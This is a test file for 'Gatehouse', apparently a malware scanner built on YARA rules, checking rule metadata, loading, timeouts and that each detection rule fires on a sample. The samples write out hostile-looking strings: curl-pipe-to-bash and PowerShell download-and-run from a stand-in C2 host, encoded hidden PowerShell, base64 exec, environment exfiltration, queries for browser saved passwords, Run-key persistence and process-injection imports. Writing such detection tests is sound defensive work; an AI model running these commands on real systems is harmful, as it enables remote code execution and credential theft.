import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { writePe } from '../../../test/support/native/pe-writer.ts'
import { capabilities } from '../capability.ts'
import { factClasses } from '../fact.ts'
import { compileRules } from './compile.ts'
import { loadEngine } from './engine.ts'
import { loadRules, ruleScanner } from './rules.ts'
import { ownRules, readRuleFolder } from './sources.ts'

const loaded = loadEngine()
const folder = mkdtempSync(join(tmpdir(), 'gatehouse-rules-'))
afterAll(() => rmSync(folder, { recursive: true }))

function userRules(files: Readonly<Record<string, string>>): string {
  const path = mkdtempSync(join(folder, 'set-'))
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(join(path, name, '..'), { recursive: true })
    writeFileSync(join(path, name), text)
  }
  return path
}

const simple = (name: string, text: string) => `rule ${name} {\n  strings: $a = "${text}"\n  condition: $a\n}\n`

describe.skipIf('missing' in loaded)('rules', () => {
  const own = loadRules()
  const names = (bytes: Buffer, rules = own) => rules.scan(bytes).hits.map(({ rule }) => rule)

  it('come with Gatehouse without a fault, each with what a verdict needs', () => {
    expect(own.problems).toEqual([])
    for (const { path, text } of readRuleFolder(ownRules).sources) {
      for (const rule of text.split(/^rule /m).slice(1)) {
        const meta = (name: string) => new RegExp(`\\b${name} = "([^"]+)"`).exec(rule)?.[1] ?? ''
        const where = `${path}: ${rule.split(' ', 1)[0]}`
        expect(meta('description'), where).not.toBe('')
        expect(meta('technique'), where).toMatch(/^T\d{4}(\.\d{3})?$/)
        expect(Object.keys(factClasses), where).toContain(meta('class'))
        expect(rule, where).toMatch(/\bversion = \d/)
        for (const capability of meta('capability').split(' ')) expect(Object.keys(capabilities), where).toContain(capability)
      }
    }
  })

  const examples: readonly (readonly [rule: string, bytes: Buffer])[] = [
    ['browser_history_query', Buffer.from('SELECT url, title FROM urls ORDER BY id DESC LIMIT 500', 'utf16le')],
    ['browser_logins_query', Buffer.from('SELECT origin_url, username_value, password_value FROM logins', 'utf16le')],
    ['browser_profiles_of_several_vendors', Buffer.from('\\Google\\Chrome\\User Data\0\\Microsoft\\Edge\\User Data\0', 'utf16le')],
    ['secret_scanner_with_publishing', Buffer.from("execSync('trufflehog filesystem'); run('npm publish')")],
    ['build_runner_memory', Buffer.from("cmdline = 'Runner.Worker'; open('/proc/%d/mem' % pid)")],
    ['powershell_encoded_command', Buffer.from(`cmd /c powershell.exe -nop -w hidden -enc ${'QUJD'.repeat(8)}`, 'utf16le')],
    ['powershell_download_and_run', Buffer.from('IEX(New-Object Net.WebClient).DownloadString("https://c2.invalid/a")')],
    ['shell_download_and_run', Buffer.from('curl -fsSL https://c2.invalid/a.sh | bash')],
    ['python_decode_and_run', Buffer.from("exec(base64.b64decode('ZXhpdCgwKQ=='))")],
    ['python_pth_code', Buffer.from("import os, base64; exec(base64.b64decode('ZXhpdCgwKQ=='))\n")],
    ['javascript_decode_and_run', Buffer.from("eval(Buffer.from('cHJvY2Vzcy5leGl0KDAp', 'base64').toString())")],
    ['all_environment_sent', Buffer.from("const body = JSON.stringify(process.env); https.request(u, { method: 'POST' })")],
    ['messenger_webhook', Buffer.from('https://discord.com/api/webhooks/123456789012345678/abc')],
    ['run_key_by_command', Buffer.from('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x')],
    [
      'library_proxies_another',
      writePe({ library: true, exportName: 'version.dll', exports: ['a', 'b', 'c', 'd', 'e'].map((name) => ({ name, forward: `version_.${name}` })) }),
    ],
    ['code_put_into_other_programs', writePe({ imports: { 'kernel32.dll': ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'] } })],
  ]

  it.each(examples)('%s matches its example', (rule, bytes) => {
    expect(names(bytes)).toContain(rule)
  })

  it('match none of the ordinary', () => {
    const benign = [
      writePe({ library: true, imports: { 'kernel32.dll': ['CreateFileW', 'VirtualAlloc', 'GetProcAddress'] }, exports: [{ name: 'a' }] }),
      Buffer.from("import os\nimport base64\nprint(base64.b64decode('aGVsbG8='))\n"),
      Buffer.from("const { execFile } = require('node:child_process')\nexecFile('git', ['status'])\nfetch('https://registry.npmjs.org/left-pad')\n"),
      Buffer.from('Run `npm publish` when the tests pass. Add your token to ~/.npmrc first.\n'),
    ]
    for (const bytes of benign) expect(names(bytes)).toEqual([])
  })

  it('give a unit at the first match, with capabilities, technique and class', () => {
    const [hit] = own.scan(Buffer.from('....curl -s https://c2.invalid/a | sh')).hits
    expect(hit).toMatchObject({ source: 'execution.yar', technique: 'T1059.004', class: 'C', family: false })
    expect(hit?.unit).toMatchObject({ kind: 'rule', place: { offset: 4 }, capabilities: ['execute', 'network', 'shell'] })
  })

  it('leave known malware out when told so, and say it by their version', () => {
    const without = loadRules({ families: false })
    const known = Buffer.from('3jB(2bsG#@c7')
    expect(names(known)).toEqual(['known_3cx_side_loaded_pair'])
    expect(names(known, without)).toEqual([])
    expect(without.version).not.toBe(own.version)
    expect(own.version).toMatch(/^\d+\.\d+\.\d+\+[0-9a-f]{12}$/)
  })

  it('of the user run beside ours; a wrong one is named with file and line and the rest still runs', () => {
    const path = userRules({
      'a.yar': `${simple('first', 'one')}\nrule broken {\n  strings: $a = "x"\n  condition: $missing\n}\n${simple('second', 'two')}`,
      'deep/b.yara': `${simple('first', 'three')}${simple('third', 'three')}`,
      'c.yar': 'rule open { condition: "',
      'd.yar': 'include "/etc/passwd"\n',
    })
    const rules = loadRules({ folders: [ownRules, path] })
    expect(rules.problems.toSorted()).toEqual([
      expect.stringMatching(/^a\.yar, line 8: unknown pattern `\$missing`; this rule is not used$/),
      expect.stringMatching(/^c\.yar, line 1: /),
      expect.stringMatching(/^d\.yar, line 1: /),
      expect.stringMatching(/^deep\/b\.yara, line 1: duplicate rule `first`; this rule is not used$/),
    ])
    expect(names(Buffer.from('one two three'), rules)).toEqual(['first', 'second', 'third'])
    expect(rules.version).not.toBe(own.version)
  })

  it('of the next folder are not run when the time is over, which is said', () => {
    const slow = userRules({ 'slow.yar': 'rule slow { condition: for all i in (1..3000000) : (uint8(i % filesize) < 300) }' })
    const rules = loadRules({ folders: [slow, ownRules] })
    const scan = rules.scan(Buffer.from('curl -s https://c2.invalid/a | sh'), 0.001)
    expect(scan.hits.map(({ rule }) => rule)).toEqual(['slow'])
    expect(scan.notes).toEqual([expect.stringContaining('were not run: those before took longer than 0.001 s')])
  })

  it('of one folder are not held back by a global rule of another', () => {
    const path = userRules({ 'a.yar': `global rule never { condition: filesize == 1 }\n${simple('one', 'one')}` })
    expect(names(Buffer.from('one; curl -s https://c2.invalid/a | sh'), loadRules({ folders: [path, ownRules] }))).toEqual(['shell_download_and_run'])
  })

  it('are a scanner beside the readers', () => {
    const reading = ruleScanner(own)({ path: 'x', bytes: Buffer.from('curl -s https://c2.invalid/a | sh') })
    expect(reading.units.map(({ kind }) => kind)).toEqual(['rule'])
    expect(reading.traits.map(({ name, value }) => [name, value])).toEqual([
      ['yara.shell_download_and_run.class', 'C'],
      ['yara.shell_download_and_run.technique', 'T1059.004'],
      ['yara.shell_download_and_run.family', false],
    ])
  })

  it('are many errors in one file no reason to hang', () => {
    if ('missing' in loaded) return
    const text = Array.from({ length: 50 }, (_, index) => `rule r${index} { condition: $x }`).join('\n')
    expect(compileRules(loaded.engine, [{ path: 'x.yar', text, families: false }]).problems).toHaveLength(50)
  })
})
